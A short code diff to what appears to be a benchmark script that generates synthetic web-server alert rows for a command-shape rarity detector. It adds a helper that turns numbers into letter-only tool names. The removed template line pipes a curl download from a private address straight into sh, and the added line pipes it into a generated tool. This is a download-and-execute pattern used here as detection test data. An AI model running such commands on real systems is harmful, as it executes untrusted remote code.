@@ -16,6 +16,7 @@ import { commandShape } from '#shared/rarity/shape.ts';
 const ALERTS = Number(process.argv[2] ?? 100_000);
 const ROUNDS = 20;
 const START = Date.parse('2026-11-01T00:00:00Z');
+const SHAPES = 2000;
 const PARENTS = ['nginx', 'php-fpm8.2', 'java', 'ruby3.1', 'gunicorn'];
 
 const author = { actor: 'bench', now: START };
@@ -25,8 +26,12 @@ const pick = <Item>(items: readonly Item[], at: number): Item => {
   return item;
 };
 
+/** Letters only: digits would be read as a variable part of one shape. */
+const toolName = (number: number): string =>
+  String(number).replaceAll(/\d/g, (digit) => 'bcdfghjklm'[Number(digit)] ?? '');
+
 function alertRow(at: number) {
-  const commandLine = `sh -c curl -s http://10.${at % 200}.3.7/${at % 5000} | sh -s ${at % 90}`;
+  const commandLine = `sh -c curl -s http://10.${at % 200}.3.7/${at % 5000} | ${toolName(at % SHAPES)} -s ${at % 90}`;
   const seen = formatInstant(START + at * MINUTE * 0.4);
   const parent = pick(PARENTS, at);
   const host = `web${at % 400}.example.com`;
